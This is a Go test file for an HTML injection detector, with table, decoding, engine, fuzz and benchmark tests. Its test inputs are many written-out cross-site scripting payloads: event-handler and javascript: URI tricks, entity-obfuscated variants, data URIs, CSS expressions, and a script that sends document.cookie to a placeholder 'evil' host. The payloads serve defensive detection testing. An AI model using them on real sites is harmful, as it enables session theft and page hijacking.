package detect

import (
	"strings"
	"testing"
)

// detectorCase is one row of a detector's table test: want is the rule the
// text must produce ("" when the detector must emit nothing at all), with
// the finding's score in [minScore, maxScore] (maxScore 0 means 1).
type detectorCase struct {
	name     string
	text     string
	want     string
	minScore float64
	maxScore float64
}

// rescanned is one call of Text.Rescan.
type rescanned struct {
	decoded string
	span    [2]int
	how     string
}

// runDetector runs d over s directly and checks the invariants every
// finding must keep: detector name, rule prefix, span within the text,
// non-empty evidence, score in (0,1].
func runDetector(t *testing.T, d Detector, s string) ([]Finding, []rescanned) {
	t.Helper()
	var rs []rescanned
	tx := &Text{Field: "text", Orig: s, Norm: (&Normalizer{}).Normalize(s)}
	tx.rescan = func(decoded string, span [2]int, how string) {
		rs = append(rs, rescanned{decoded, span, how})
	}
	var fs []Finding
	d.Detect(tx, func(f Finding) {
		if f.Detector != d.Name() {
			t.Errorf("finding %s: detector %q, want %q", f.Rule, f.Detector, d.Name())
		}
		if f.Span[0] < 0 || f.Span[1] > len(s) || f.Span[0] > f.Span[1] {
			t.Errorf("finding %s: span %v outside text of %d bytes", f.Rule, f.Span, len(s))
		}
		if f.Evidence == "" || f.Message == "" || f.Score <= 0 || f.Score > 1 {
			t.Errorf("finding %s: empty evidence/message or bad score: %+v", f.Rule, f)
		}
		fs = append(fs, f)
	})
	for _, r := range rs {
		if r.span[0] < 0 || r.span[1] > len(s) || r.span[0] >= r.span[1] {
			t.Errorf("rescan %s: span %v outside text of %d bytes", r.how, r.span, len(s))
		}
	}
	return fs, rs
}

// checkCases runs a detector's table test.
func checkCases(t *testing.T, d Detector, cases []detectorCase) {
	t.Helper()
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			fs, _ := runDetector(t, d, c.text)
			if c.want == "" {
				if len(fs) > 0 {
					t.Fatalf("want no finding, got %s (%.2f) %q: %s", fs[0].Rule, fs[0].Score, fs[0].Evidence, fs[0].Message)
				}
				return
			}
			best := -1.0
			for _, f := range fs {
				if f.Rule == c.want && f.Score > best {
					best = f.Score
				}
			}
			if best < 0 {
				var got []string
				for _, f := range fs {
					got = append(got, f.Rule)
				}
				t.Fatalf("want %s, got %v", c.want, got)
			}
			hi := c.maxScore
			if hi == 0 {
				hi = 1
			}
			if best < c.minScore || best > hi {
				t.Fatalf("%s score %.2f, want in [%.2f, %.2f]", c.want, best, c.minScore, hi)
			}
		})
	}
}

func TestHTMLRules(t *testing.T) {
	cases := []detectorCase{
		// script tags
		{"script alert", `<script>alert(1)</script>`, "html.script_inline", 0.8, 0},
		{"script upper", `<SCRIPT>alert('XSS')</SCRIPT>`, "html.script_inline", 0.8, 0},
		{"script cookie theft", `<script>new Image().src="http://evil/?c="+document.cookie</script>`, "html.js_sink", 0.8, 0},
		{"script src include", `Add <script src="app.js"></script> to the page.`, "html.script_tag", 0.4, 0.55},
		{"script slash attr", `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`, "html.script_inline", 0.8, 0},
		{"script long benign code", "<script>\n$(function(){\n  $('#f').submit(function(e){ e.preventDefault();\n" +
			strings.Repeat("  var x = compute(a, b, c);\n", 12) + "  alert('saved');\n});\n});\n</script>", "html.script_tag", 0.4, 0.5},
		{"split tag", `<scr<script>ipt>alert(1)</scr</script>ipt>`, "html.split_tag", 0.8, 0},
		// event handlers
		{"img onerror", `<img src=x onerror=alert(1)>`, "html.event_handler", 0.8, 0},
		{"svg onload slash", `<svg/onload=alert('XSS')>`, "html.event_handler", 0.8, 0},
		{"body onload", `<body onload=init()>`, "html.event_handler", 0.8, 0},
		{"onclick user function", `<button onclick="toggleMenu()">Menu</button>`, "html.event_handler", 0.4, 0.5},
		{"handler in attribute value", `<x title='><img src=x onerror=prompt(1)>'>`, "html.event_handler", 0.8, 0},
		{"onclick prose", "Use the onclick attribute to handle clicks; onclick = handler in JS.", "", 0, 0},
		{"python onclick tutorial", "def onclick(event):\n    print(event.x)\nfig.canvas.mpl_connect('button_press_event', onclick)", "", 0, 0},
		// URIs
		{"javascript href", `<a href="javascript:alert(document.domain)">x</a>`, "html.js_uri", 0.8, 0},
		{"javascript tab entity", `<a href="java&#x09;script:alert(1)">x</a>`, "html.js_uri", 0.8, 0},
		{"javascript newline entity", "<iframe src=j&NewLine;a&Tab;vascript&colon;alert(1)>", "html.js_uri", 0.8, 0},
		{"javascript decimal entities", `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`, "html.js_uri", 0.8, 0},
		{"javascript bare payload", `javascript:alert(1)`, "html.js_uri", 0.8, 0},
		{"vbscript", `<img src="vbscript:msgbox('x')">`, "html.js_uri", 0.8, 0},
		{"void zero link", `<a href="javascript:void(0)">menu</a>`, "html.js_uri", 0.2, 0.4},
		{"javascript prose", "JavaScript: The Good Parts is a book. Topics: javascript: closures.", "", 0, 0},
		{"data text/html", `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`, "html.data_uri", 0.8, 0},
		{"data png uri", `<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==">`, "", 0, 0},
		// entity and escape encoded markup
		{"entity encoded script", `&lt;script&gt;alert(document.cookie)&lt;/script&gt;`, "html.script_inline", 0.8, 0},
		{"numeric entity script", `&#60;script&#62;alert(1)&#60;/script&#62;`, "html.script_inline", 0.8, 0},
		{"js unicode escape", `"\u003cimg src=x onerror=alert(1)\u003e"`, "html.event_handler", 0.8, 0},
		// embedding and redirection
		{"iframe", `<iframe src="https://www.youtube.com/embed/xyz"></iframe>`, "html.embed_tag", 0.3, 0.5},
		{"object", `<object type="application/x-shockwave-flash" data="a.swf"></object>`, "html.embed_tag", 0.3, 0.5},
		{"meta refresh", `<meta http-equiv="refresh" content="0;url=http://evil.example/">`, "html.meta_refresh", 0.5, 0.6},
		{"meta charset", `<meta charset="utf-8">`, "", 0, 0},
		{"base href", `<base href="http://evil.example/">`, "html.base_href", 0.5, 0.6},
		{"css expression", `<div style="width: expression(alert(1))">`, "html.css_expression", 0.8, 0},
		{"style block binding", `<style>body{-moz-binding:url("http://x/xss.xml#x")}</style>`, "html.css_expression", 0.8, 0},
		{"plain style", `<p style="color: red">hi</p>`, "", 0, 0},
		// benign text
		{"generics", "List<String> names = new ArrayList<>(); if (a < b && c > d) {}", "", 0, 0},
		{"escaped amp", "Tom &amp; Jerry &mdash; fish &amp; chips at 10:30", "", 0, 0},
		{"plain html", `<p>Hello <b>world</b>, see <a href="https://example.com/">here</a>.</p>`, "", 0, 0},
		{"url with colon", "Visit https://example.com:8080/path?a=b for details: thanks", "", 0, 0},
	}
	checkCases(t, newHTMLDetector(), cases)
}

func TestHTMLSpansMapToOriginal(t *testing.T) {
	s := `Intro text &lt;img src=x onerror=alert(1)&gt; tail`
	fs, _ := runDetector(t, newHTMLDetector(), s)
	for _, f := range fs {
		if f.Rule != "html.event_handler" {
			continue
		}
		if got := s[f.Span[0]:f.Span[1]]; got != "onerror=alert(1)" {
			t.Fatalf("span %v = %q, want the handler in the original text", f.Span, got)
		}
		return
	}
	t.Fatalf("no html.event_handler finding in %v", fs)
}

func TestHTMLDecode(t *testing.T) {
	cases := []struct{ in, want string }{
		{"&lt;b&gt;", "<b>"},
		{"&#60;&#x3C;&#X3c;", "<<<"},
		{"&#0000106&#0000097", "ja"},
		{"java&Tab;script&colon;", "java\tscript:"},
		{`\u003cscript\x3e`, "<script>"},
		{`\u{3c}`, "<"},
		{"&unknown; & plain", "&unknown; & plain"},
		{`\n stays`, `\n stays`},
	}
	for _, c := range cases {
		t.Run(c.in, func(t *testing.T) {
			got, off := htmlDecode(c.in)
			if got != c.want {
				t.Fatalf("htmlDecode(%q) = %q, want %q", c.in, got, c.want)
			}
			if len(off) != len(got)+1 || int(off[len(got)]) != len(c.in) {
				t.Fatalf("offset map has %d entries ending at %d", len(off), off[len(off)-1])
			}
			for i := 1; i < len(off); i++ {
				if off[i] < off[i-1] {
					t.Fatalf("offset map not monotonic: %v", off)
				}
			}
		})
	}
}

func TestHTMLEngine(t *testing.T) {
	e, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		name, text, want string
		quarantine       bool
	}{
		{"xss quarantined", `<img src=x onerror=alert(document.cookie)>`, "html.event_handler", true},
		{"url-encoded script tag", `<%73%63%72%69%70%74>alert(1)<%2f%73%63%72%69%70%74>`, "html.script_inline", true},
		{"base64 data uri html", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, "html.data_uri", true},
		{"tutorial clean", "In HTML, the <script> tag loads JavaScript; use the onclick attribute for clicks.", "", false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := e.Scan(Document{ID: "1", Fields: []Field{{Name: "text", Text: c.text}}})
			found := false
			for _, f := range r.Findings {
				if f.Detector == "html" && (c.want == "" || f.Rule == c.want) {
					found = true
				}
			}
			if found != (c.want != "") {
				t.Fatalf("html finding %q present = %v, findings %+v", c.want, found, r.Findings)
			}
			if c.quarantine && !r.Quarantined() {
				t.Fatalf("band %s (score %.2f), want quarantine", r.Band, r.Score)
			}
		})
	}
}

// FuzzHTML checks that the HTML detector never panics and keeps its
// finding invariants on any input.
func FuzzHTML(f *testing.F) {
	for _, s := range []string{`<img src=x onerror=alert(1)>`, `&#106;avascript:alert(1)`, `<scr<script>ipt>`,
		`<script>`, `\u003c`, `&#x`, `<a href="java&#x09;script:x">`, "<svg/onload=\u2028alert(1)"} {
		f.Add(s)
	}
	d := newHTMLDetector()
	f.Fuzz(func(t *testing.T, s string) {
		runDetector(t, d, s)
	})
}

// benignParagraph is ~3.4 KB of ordinary English web text, the benchmark
// input of the detectors.
var benignParagraph = strings.Repeat("The city council met on Tuesday evening to discuss the new budget proposal, "+
	"which includes funding for road repairs, public libraries and a community garden near the river. "+
	"Residents asked questions about property taxes (which rose 2% last year) and about the timeline: "+
	"construction is expected to start in the spring & finish before winter. \"We want every neighborhood "+
	"to benefit,\" said the mayor, adding that details will be posted online at the city's website. ", 9)[:3400]

func benchDetector(b *testing.B, d Detector) {
	tx := &Text{Field: "text", Orig: benignParagraph, Norm: (&Normalizer{}).Normalize(benignParagraph)}
	n := 0
	b.SetBytes(int64(len(benignParagraph)))
	b.ReportAllocs()
	for b.Loop() {
		d.Detect(tx, func(Finding) { n++ })
	}
	if n != 0 {
		b.Fatalf("%d findings on benign text", n)
	}
}

func BenchmarkHTML(b *testing.B) { benchDetector(b, newHTMLDetector()) }
